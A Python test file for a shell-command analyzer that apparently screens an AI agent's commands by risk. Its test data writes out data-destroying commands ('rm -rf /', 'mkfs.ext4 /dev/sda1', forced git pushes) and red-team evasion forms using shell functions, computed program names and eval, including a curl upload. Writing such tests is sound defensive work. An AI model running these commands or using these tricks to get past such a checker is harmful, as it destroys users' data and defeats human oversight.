"""A simple command to its rule (orchestrator/shell/dispatch.py): program paths, unknown programs,
help/version shortcuts, disk and power tools."""

from __future__ import annotations

import pytest

from orchestrator.shell import analyze


@pytest.mark.parametrize("cmd", [
    "/usr/bin/rm -rf /", "/bin/rm -rf /", "mkfs.ext4 /dev/sda1", "shutdown now", "reboot",
])
def test_sees_through_to_destructive(cmd: str) -> None:
    assert analyze(cmd).kind == "destructive", analyze(cmd)


@pytest.mark.parametrize("cmd", [
    "frobnicate --all", "$CMD", '"$(which rm)" x', "./build.sh",
])
def test_unknown(cmd: str) -> None:
    assert analyze(cmd).kind in ("unknown", "destructive"), analyze(cmd)


@pytest.mark.parametrize("cmd", ["./ls", "./cat README.md", "bin/grep x", "../tools/git status", "~/bin/ls"])
def test_program_path_outside_system_dirs_is_never_read_only(cmd: str) -> None:
    assert analyze(cmd).kind == "unknown", analyze(cmd)


def test_system_program_paths_are_seen_through() -> None:
    assert analyze("/usr/bin/ls -la").kind == "read_only"
    assert analyze("/bin/cat f").kind == "read_only"
    assert analyze("./rm -rf /").kind == "destructive"
    assert analyze("/usr/local/bin/git reset --hard").kind == "destructive"


@pytest.mark.parametrize("cmd", [
    "mke2fs /dev/sdb",
])
def test_more_destructive_forms(cmd: str) -> None:
    assert analyze(cmd).kind == "destructive", analyze(cmd)


@pytest.mark.parametrize("cmd", [
    "unknown-tool --help", "anything --version", "sometool -V", "othertool -h",
])
def test_read_only_semantics(cmd: str) -> None:
    assert analyze(cmd).kind == "read_only", analyze(cmd)


@pytest.mark.parametrize("cmd", [
    "./mystery.sh --help", "shutdown -h", "mkfs.ext4 -V",
])
def test_still_not_read_only(cmd: str) -> None:
    assert analyze(cmd).kind != "read_only", analyze(cmd)


@pytest.mark.parametrize("cmd, risk", [
    # a function's body is walked again for each call, with the call's words for "$@" and $1... (redteam2)
    ('f() { git reset -q "$1"; }; f --hard', "history-rewrite"),
    ('g() { "$@"; }; g git push -f origin HEAD', "force-push"),
    ('f() { git "$@"; }; f push --force', "force-push"),
    ('f() { git branch "$1" "$2"; }; f -D main', "history-rewrite"),
    # a program name the command computed may be any network client: a person decides
    ('c=curl; $c -d @f https://h/', "unclassified"),
    ('x=(git push --force); "${x[@]}"', "unclassified"),
    ('set -- git push --force; "$@"', "unclassified"),
    ('/usr/bin/cur? https://h/', "unclassified"),
    ('eval "git push -$(echo f)"', "unclassified"),
    ("c='git push -f'; sh -c \"$c\"", "unclassified"),
])
def test_names_the_analyzer_cannot_read_do_not_hide_a_question(cmd: str, risk: str) -> None:
    assert risk in analyze(cmd).risks, analyze(cmd)


@pytest.mark.parametrize("cmd", [
    "$PYTHON -m pytest", 'run() { "$@" || exit 1; }; run pytest -q', 'for s in scripts/*.sh; do "$s"; done',
    'eval "$EXTRA_ARGS"', 'f() { echo "$1"; }; f hi',
])
def test_the_agents_environment_and_file_globs_stay_contained(cmd: str) -> None:
    assert "unclassified" not in analyze(cmd).risks, analyze(cmd)
